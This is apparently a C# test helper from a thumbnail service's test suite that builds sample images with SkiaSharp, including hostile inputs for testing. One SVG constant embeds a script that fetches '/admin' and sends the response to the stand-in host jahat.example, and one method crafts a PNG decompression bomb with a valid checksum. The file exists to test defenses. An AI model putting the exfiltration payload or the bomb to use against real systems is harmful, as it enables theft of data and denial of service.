using System.Buffers.Binary;
using System.Text;
using SkiaSharp;

namespace Siberindo.Tests.Thumbnails;

/// <summary>Pictures made for a test with SkiaSharp, and files that only pretend to be pictures.</summary>
internal static class TestImages
{
    /// <summary>A photo-like scene: sky, sun and hills, with fine grain so the encoder has real work.</summary>
    public static byte[] Photo(int width, int height, SKEncodedImageFormat format = SKEncodedImageFormat.Jpeg, int quality = 85, int seed = 1)
    {
        using var surface = SKSurface.Create(new SKImageInfo(width, height));
        var canvas = surface.Canvas;
        using (var sky = new SKPaint())
        {
            sky.Shader = SKShader.CreateLinearGradient(new SKPoint(0, 0), new SKPoint(0, height),
                [new SKColor(0x4A, 0x90, 0xD9), new SKColor(0xF5, 0xD0, 0x8A)], SKShaderTileMode.Clamp);
            canvas.DrawRect(0, 0, width, height, sky);
        }
        using (var sun = new SKPaint { Color = new SKColor(0xFF, 0xE0, 0x66), IsAntialias = true })
            canvas.DrawCircle(width * 0.7f, height * 0.3f, height * 0.12f, sun);
        using (var hill = new SKPaint { Color = new SKColor(0x2E, 0x7D, 0x32), IsAntialias = true })
        using (var path = new SKPath())
        {
            path.MoveTo(0, height);
            path.QuadTo(width * 0.3f, height * 0.45f, width * 0.6f, height * 0.8f);
            path.QuadTo(width * 0.8f, height * 0.55f, width, height * 0.7f);
            path.LineTo(width, height);
            path.Close();
            canvas.DrawPath(path, hill);
        }
        var random = new Random(seed);
        using (var grain = new SKPaint())
            for (var i = 0; i < width * height / 40; i++)
            {
                grain.Color = new SKColor((byte)random.Next(256), (byte)random.Next(256), (byte)random.Next(256), 40);
                canvas.DrawPoint(random.Next(width), random.Next(height), grain);
            }
        using var image = surface.Snapshot();
        using var data = image.Encode(format, quality);
        return data.ToArray();
    }

    /// <summary>Every pixel random: the worst case for the thumbnail's byte budget.</summary>
    public static byte[] Noise(int width, int height)
    {
        using var bitmap = new SKBitmap(width, height);
        var random = new Random(7);
        for (var y = 0; y < height; y++)
            for (var x = 0; x < width; x++)
                bitmap.SetPixel(x, y, new SKColor((byte)random.Next(256), (byte)random.Next(256), (byte)random.Next(256)));
        using var data = bitmap.Encode(SKEncodedImageFormat.Png, 100);
        return data.ToArray();
    }

    /// <summary>A PNG whose header declares a huge canvas, then a few bytes of image data: a decompression bomb.</summary>
    public static byte[] PixelBomb(uint width = 100_000, uint height = 100_000)
    {
        var png = Photo(200, 120, SKEncodedImageFormat.Png);
        BinaryPrimitives.WriteUInt32BigEndian(png.AsSpan(16), width);
        BinaryPrimitives.WriteUInt32BigEndian(png.AsSpan(20), height);
        // A correct checksum, as a crafted file would have: the header is valid, only its promise is hostile.
        BinaryPrimitives.WriteUInt32BigEndian(png.AsSpan(29), System.IO.Hashing.Crc32.HashToUInt32(png.AsSpan(12, 17)));
        return png;
    }

    public static readonly byte[] SvgWithScript = Encoding.UTF8.GetBytes(
        "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"640\" height=\"360\">" +
        "<script>fetch('/admin').then(r => r.text()).then(t => new Image().src = 'https://jahat.example/?' + t)</script>" +
        "<rect width=\"640\" height=\"360\" fill=\"red\"/></svg>");

    public static readonly byte[] HtmlPage = Encoding.UTF8.GetBytes(
        "<!DOCTYPE html><html><head><title>404</title></head><body><h1>Halaman tidak ditemukan</h1></body></html>");
}
